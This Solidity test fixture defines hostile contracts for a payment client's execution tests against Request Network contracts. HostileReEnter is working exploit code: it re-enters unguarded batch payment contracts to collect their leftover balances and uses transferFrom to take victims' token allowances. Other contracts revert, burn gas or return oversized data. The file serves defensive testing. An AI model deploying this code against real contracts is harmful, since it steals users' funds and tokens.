// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.9;

/**
 * The code the execution tests place at every address a pay response chooses (a fee address, a
 * batch row's recipient that is not an agreed payee, an approval's spender that is not a contract
 * of the table, a token outside the catalog, a message receiver): the response is the adversary,
 * and any address it names may be a contract. One contract per mode, so that the mode is in the
 * code itself and costs no storage read: under the 2300 gas of Solidity's `transfer` a mode still
 * behaves as itself (see `HostileReEnter`).
 *
 * Each mode answers every call, with or without value or calldata, in one `fallback`: as the
 * recipient of native value, and as an ERC-20 the response names that the crate does not know.
 */

/// What the re-entering mode reads: the chain's Request Network contracts, the tokens whose
/// allowances it tries to take, and whose. One per chain, at `HostileBase.CONFIG`.
contract HostileConfig {
  address[] internal targets;
  address[] internal tokens;
  address[] internal victims;

  constructor(address[] memory targets_, address[] memory tokens_, address[] memory victims_) {
    targets = targets_;
    tokens = tokens_;
    victims = victims_;
  }

  function get()
    external
    view
    returns (address[] memory, address[] memory, address[] memory)
  {
    return (targets, tokens, victims);
  }
}

// The shapes of Request Network's payable entry points, for their selectors and encodings:
// `BatchNoConversionPayments` / `BatchConversionPayments`
// (RequestNetwork/requestNetwork@f1942807:packages/smart-contracts/src/contracts/BatchNoConversionPayments.sol:116-120,
// BatchConversionPayments.sol:94-98 and 179-183), legacy `BatchPayments` (BatchPayments.sol:67-73),
// `EthereumFeeProxy` (EthereumFeeProxy.sol:32-37 and 55-61), `EthereumProxy` (EthereumProxy.sol:22).
interface IHostileTargets {
  struct RequestDetail {
    address recipient;
    uint256 requestAmount;
    address[] path;
    bytes paymentReference;
    uint256 feeAmount;
    uint256 maxToSpend;
    uint256 maxRateTimespan;
  }

  struct MetaDetail {
    uint256 paymentNetworkId;
    RequestDetail[] requestDetails;
  }

  function batchNativePayments(
    RequestDetail[] calldata requestDetails,
    bool skipFeeUSDLimit,
    address payable feeAddress
  ) external payable returns (uint256);

  function batchNativeConversionPayments(
    RequestDetail[] calldata requestDetails,
    bool skipFeeUSDLimit,
    address payable feeAddress
  ) external payable returns (uint256);

  function batchPayments(
    MetaDetail[] calldata metaDetails,
    address[][] calldata pathsToUSD,
    address feeAddress
  ) external payable;

  function batchEthPaymentsWithReference(
    address[] calldata _recipients,
    uint256[] calldata _amounts,
    bytes[] calldata _paymentReferences,
    uint256[] calldata _feeAmounts,
    address payable _feeAddress
  ) external payable;

  function transferExactEthWithReferenceAndFee(
    address payable _to,
    uint256 _amount,
    bytes calldata _paymentReference,
    uint256 _feeAmount,
    address payable _feeAddress
  ) external payable;

  function transferWithReferenceAndFee(
    address payable _to,
    bytes calldata _paymentReference,
    uint256 _feeAmount,
    address payable _feeAddress
  ) external payable;

  function transferWithReference(address payable _to, bytes calldata _paymentReference)
    external
    payable;
}

/// What every mode shares: the address of the configuration, and a call that never copies what
/// it is answered (a target may be another hostile address that returns a megabyte).
abstract contract HostileBase {
  /// `HostileConfig` of the chain (tests/it/evm/hostile.rs places it there).
  address internal constant CONFIG = address(uint160(0x5ec0f16));

  function callQuietly(address target, bytes memory data) internal returns (bool ok) {
    assembly {
      ok := call(gas(), target, 0, add(data, 32), mload(data), 0, 0)
    }
  }
}

// Re-enters. On any call with enough gas (a `transfer`'s 2300 cannot run anything, and it
// accepts then, as an EOA would), once per address at a time (the depth is bounded at one: the
// refunds its own re-entries send it find it busy and are accepted):
// 1. it calls every payable entry point of the contract that called it and of every Request
//    Network contract of the chain, with no rows, no value and itself as the fee address and
//    recipient: a batch contract without a reentrancy guard that still holds value then
//    "refunds" `address(this).balance` to it (`_batchNativePayments`,
//    RequestNetwork/requestNetwork@f1942807:packages/smart-contracts/src/contracts/BatchNoConversionPayments.sol:204-215,
//    `_batchNativeConversionPayments`, BatchConversionPayments.sol:298-320); a guarded one
//    (`BatchPayments`, `EthereumFeeProxy`: `nonReentrant`) refuses, and a refund computed from
//    `msg.value` (`EthereumFeeProxy.sol:66-70`) gives back only the 0 it sent. Every call is a
//    low-level one: a refused re-entry does not by itself revert;
// 2. it takes every allowance it has of the chain's tokens from the payer's accounts (what an
//    approval to a spender outside the table gives away);
// 3. it answers `true` (one word), so that as a token outside the catalog it "moves" nothing and
//    says it did.
// Called with the four bytes `poke` (the attacker, after the response), it does only 2.
contract HostileReEnter is HostileBase {
  uint256 private depth;

  fallback(bytes calldata data) external payable returns (bytes memory) {
    if (gasleft() > 100000 && depth == 0) {
      depth = 1;
      strike(keccak256(data) != keccak256('poke'));
      depth = 0;
    }
    return abi.encode(true);
  }

  /// Re-enters (unless `poke`d by the attacker after the response: then nothing holds value
  /// any more, and it only takes its allowances), then takes its allowances.
  function strike(bool again) private {
    (address[] memory targets, address[] memory tokens, address[] memory victims) = HostileConfig(
      CONFIG
    ).get();
    if (again) {
      reenter(msg.sender);
      for (uint256 i = 0; i < targets.length; i++) {
        if (targets[i] != msg.sender) {
          reenter(targets[i]);
        }
      }
    }
    for (uint256 t = 0; t < tokens.length; t++) {
      for (uint256 v = 0; v < victims.length; v++) {
        take(tokens[t], victims[v]);
      }
    }
  }

  /// Each payable entry point of `target`, emptied of rows, paying and refunding to this.
  function reenter(address target) private {
    if (target.code.length == 0) {
      return;
    }
    address payable me = payable(address(this));
    IHostileTargets.RequestDetail[] memory none = new IHostileTargets.RequestDetail[](0);
    callQuietly(
      target,
      abi.encodeWithSelector(IHostileTargets.batchNativePayments.selector, none, true, me)
    );
    callQuietly(
      target,
      abi.encodeWithSelector(IHostileTargets.batchNativeConversionPayments.selector, none, true, me)
    );
    // Through `batchPayments`: a native group (3) and a native-conversion group (4), each empty.
    for (uint256 id = 3; id <= 4; id++) {
      IHostileTargets.MetaDetail[] memory meta = new IHostileTargets.MetaDetail[](1);
      meta[0] = IHostileTargets.MetaDetail(id, none);
      callQuietly(
        target,
        abi.encodeWithSelector(
          IHostileTargets.batchPayments.selector,
          meta,
          new address[][](0),
          me
        )
      );
    }
    callQuietly(
      target,
      abi.encodeWithSelector(
        IHostileTargets.batchEthPaymentsWithReference.selector,
        new address[](0),
        new uint256[](0),
        new bytes[](0),
        new uint256[](0),
        me
      )
    );
    callQuietly(
      target,
      abi.encodeWithSelector(
        IHostileTargets.transferExactEthWithReferenceAndFee.selector,
        me,
        uint256(0),
        bytes(''),
        uint256(0),
        me
      )
    );
    callQuietly(
      target,
      abi.encodeWithSelector(
        IHostileTargets.transferWithReferenceAndFee.selector,
        me,
        bytes(''),
        uint256(0),
        me
      )
    );
    callQuietly(
      target,
      abi.encodeWithSelector(IHostileTargets.transferWithReference.selector, me, bytes(''))
    );
  }

  /// As much of `token` as `victim` lets this spend and holds.
  function take(address token, address victim) private {
    if (token.code.length == 0) {
      return;
    }
    uint256 allowed = readWord(token, abi.encodeWithSignature('allowance(address,address)', victim, address(this)));
    if (allowed == 0) {
      return;
    }
    uint256 held = readWord(token, abi.encodeWithSignature('balanceOf(address)', victim));
    uint256 amount = allowed < held ? allowed : held;
    if (amount > 0) {
      callQuietly(
        token,
        abi.encodeWithSignature('transferFrom(address,address,uint256)', victim, address(this), amount)
      );
    }
  }

  function readWord(address token, bytes memory data) private view returns (uint256 word) {
    (bool ok, bytes memory out) = token.staticcall(data);
    if (ok && out.length >= 32) {
      word = abi.decode(out, (uint256));
    }
  }
}

/// Refuses: every call reverts, with value or without (a contract without `receive`, a payee
/// that blocks the payer). A payment that sends it native value cannot go through.
contract HostileRevert is HostileBase {
  fallback() external payable {
    revert('hostile: refused');
  }
}

/// Burns every unit of gas it is given (the INVALID opcode), then fails: the caller keeps only
/// the 1/64 of its gas the EVM leaves it.
contract HostileBurnGas is HostileBase {
  fallback() external payable {
    assembly {
      invalid()
    }
  }
}

/// Accepts everything and returns nothing: as a token, a `transfer` "succeeds" with no return
/// value (as USDT does) and moves nothing.
contract HostileNoData is HostileBase {
  fallback() external payable {}
}

/// Accepts everything and returns a megabyte of zeros: a caller that copies what it is answered
/// (Solidity's `(bool ok, ) = to.call{value: v}('')` does) pays for the memory, and a decoder
/// reads a zero word (`false`) first.
contract HostileHugeReturn is HostileBase {
  fallback() external payable {
    assembly {
      return(0, 1048576)
    }
  }
}
